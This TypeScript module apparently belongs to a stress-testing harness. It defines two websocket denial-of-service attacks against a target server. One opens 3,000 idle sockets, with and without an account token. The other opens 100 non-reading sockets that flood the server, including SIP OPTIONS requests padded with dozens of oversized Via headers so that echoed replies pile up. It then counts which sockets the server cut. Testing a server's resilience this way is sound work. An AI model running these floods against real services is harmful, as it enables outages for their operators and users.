import { randomUUID } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { type Attack, count, type Results, type Target } from '../target.ts'

const PATHS = ['business', 'chat', 'sip'] as const
type Path = (typeof PATHS)[number]

/** Between two sockets, ms. */
const PACE_MS = 2

/** A websocket of that path; `token` null = nobody's. */
export function openSocket(target: Target, path: Path, token: string | null): WebSocket {
  const secret = `token.${token ?? 'a'.repeat(40)}`
  const protocols = {
    business: ['business.v1', `uid.${randomUUID()}`, secret],
    chat: ['chat.v1', secret],
    sip: token === null ? ['sip'] : ['sip', secret],
  }
  const socket = new WebSocket(`${target.url.replace(/^http/, 'ws')}/ws/${path}/`, protocols[path])
  socket.on('error', () => undefined)
  return socket
}

/** Ten times as many sockets as an address may keep, of nobody and of an account, and not a word on any of them. */
export const idleSockets: Attack = {
  title: 'idle sockets: 3,000 of nobody and of one account',
  run: (target, over) =>
    hold(over, 3_000, (at) => openSocket(target, PATHS[at % 3] ?? 'sip', at % 2 ? target.token : null)),
}

/** Sockets of an account that ask and ask and never read what they are told. */
export const deafSockets: Attack = {
  title: 'deaf sockets: 100 that ask and do not read',
  run: (target, over) =>
    hold(over, 100, (at) => {
      const path = PATHS[at % 3] ?? 'sip'
      const socket = openSocket(target, path, target.token)
      socket.on('open', () => {
        socket.pause()
        void shout(socket, path, over)
      })
      return socket
    }),
}

async function shout(socket: WebSocket, path: Path, over: AbortSignal): Promise<void> {
  for (let serial = 0; !over.aborted && socket.readyState === socket.OPEN; serial += 1) {
    if (socket.bufferedAmount < 1_000_000) socket.send(path === 'sip' ? options(serial) : ASKED[path])
    await sleep(5)
  }
}

const ASKED = { business: '{"action":"ping","ts":1}', chat: '{"action":"check_rooms"}' }

// Its answer repeats every Via (RFC 3261 8.2.6.2): what is sent comes back.
function options(serial: number): string {
  const via = `Via: SIP/2.0/WS x.invalid;branch=z9hG4bK${serial}\r\n`
  const more = Array.from(
    { length: 60 },
    (_, at) => `Via: SIP/2.0/UDP h${at}.invalid;branch=${'b'.repeat(600)}\r\n`,
  )
  return `OPTIONS sip:x@127.0.0.1 SIP/2.0\r\n${via}${more.join('')}Max-Forwards: 70\r\nFrom: <sip:a@127.0.0.1>;tag=1\r\nTo: <sip:x@127.0.0.1>\r\nCall-ID: deaf-${serial}\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n`
}

/** Opens so many, counts how each stands when it is over, and ends them. */
async function hold(over: AbortSignal, many: number, open: (at: number) => WebSocket): Promise<Results> {
  const results: Results = {}
  const sockets: WebSocket[] = []
  for (let at = 0; at < many && !over.aborted; at += 1) {
    sockets.push(open(at))
    await sleep(PACE_MS)
  }
  while (!over.aborted) await sleep(50)
  for (const socket of sockets) {
    count(results, socket.readyState === socket.OPEN ? 'open' : 'cut')
    socket.terminate()
  }
  return results
}
